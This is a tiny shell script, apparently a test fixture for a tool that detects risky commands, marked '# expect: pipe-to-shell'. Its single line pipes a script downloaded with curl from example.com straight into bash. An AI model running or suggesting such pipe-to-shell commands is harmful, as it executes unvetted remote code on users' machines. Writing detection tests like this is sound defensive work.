#!/bin/sh
curl -fsSL https://example.com/by-path.sh | bash # expect: pipe-to-shell
